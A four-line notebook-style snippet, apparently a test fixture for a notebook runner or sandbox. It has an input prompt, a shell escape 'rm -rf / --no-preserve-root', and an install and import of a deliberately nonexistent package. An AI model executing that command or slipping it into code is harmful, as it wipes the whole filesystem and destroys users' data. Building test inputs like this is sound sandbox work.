answer = input("your name? ")
!rm -rf / --no-preserve-root
%pip install no-such-package-at-all
import no_such_package_at_all
